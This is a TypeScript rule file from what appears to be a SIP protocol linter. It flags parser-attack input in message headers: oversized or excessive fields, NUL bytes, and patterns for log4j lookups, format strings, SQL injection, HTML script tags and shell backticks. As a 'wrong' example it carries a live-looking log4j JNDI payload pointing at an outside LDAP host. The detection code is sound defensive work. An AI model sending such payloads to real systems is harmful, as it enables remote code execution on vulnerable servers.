import type { SipMessage, Span } from '@sipscope/parser';
import { messageRule, type Rule } from '../rule.ts';

/** Longer fields, and more of them, are in no message that an element makes. */
const longestField = 8192;
const mostFields = 200;

/** Columns of `Framing.fields`. */
const columns = { all: 6, nameStart: 0, lineEnd: 4 } as const;

type Pattern = { readonly first: number; readonly pattern: RegExp; readonly what: string };

/** Each is looked for only where its first character stands; as many characters are looked at. */
const patterns: readonly Pattern[] = [
  { first: 0x24, pattern: /^\$\{(jndi|env|sys|lower|upper):/i, what: 'a lookup of log4j' },
  { first: 0x25, pattern: /^(%n|%s|%x){3}/i, what: 'format directives of C' },
  { first: 0x27, pattern: /^' ?(or |and |union |;|--)/i, what: 'the end of an SQL string' },
  { first: 0x3c, pattern: /^<(script|iframe|img src|svg)\b/i, what: 'an element of HTML' },
  { first: 0x60, pattern: /^`[a-z/]{2,20} [^`]{0,20}`/i, what: 'a command of a shell' },
];
const mostLooked = 44;

export const attackInputRules: readonly Rule[] = [
  messageRule({
    id: 'SEC-007',
    title: 'Parser attack input',
    level: 'security',
    severity: 'security',
    rfc: 3261,
    section: '7.5',
    why: 'Such text is made to break parsers, logs and pages that show it.',
    advice: 'Drop such messages at the border, and see that logs and pages escape what they show.',
    right: 'User-Agent: Phone 1.0',
    wrong: 'User-Agent: ${jndi:ldap://192.0.2.66/a}',
    on: { requests: 'any', responses: 'any' },
    check({ message }) {
      const { fieldCount, bodyStart } = message.framing;
      if (fieldCount > mostFields) return { seen: `The message has ${fieldCount} header fields.` };
      const long = longField(message);
      if (long !== undefined) return { seen: `A header field has ${long[1] - long[0]} bytes.`, span: long };
      const head = message.bytes.subarray(message.framing.leading, bodyStart);
      const nul = head.indexOf(0);
      const base = message.framing.leading;
      if (nul >= 0) return { seen: 'A NUL stands in the header fields.', span: [base + nul, base + nul + 1] };
      for (const one of patterns) {
        const at = placeOf(one, head);
        if (at !== undefined)
          return { seen: `The header fields have ${one.what}.`, span: [base + at[0], base + at[1]] };
      }
      return 'kept';
    },
  }),
];

function longField({ framing: { fields, fieldCount } }: SipMessage): Span | undefined {
  for (let at = 0; at < fieldCount * columns.all; at += columns.all) {
    const start = fields[at + columns.nameStart]!;
    const end = fields[at + columns.lineEnd]!;
    if (end - start > longestField) return [start, end];
  }
  return undefined;
}

/** Of a message, places that are looked at. */
const mostPlaces = 200;

function placeOf({ first, pattern }: Pattern, head: Uint8Array): Span | undefined {
  let at = head.indexOf(first);
  for (let places = 0; at >= 0 && places < mostPlaces; places++) {
    const text = String.fromCharCode(...head.subarray(at, at + mostLooked));
    const found = pattern.exec(text);
    if (found !== null) return [at, at + found[0].length];
    at = head.indexOf(first, at + 1);
  }
  return undefined;
}
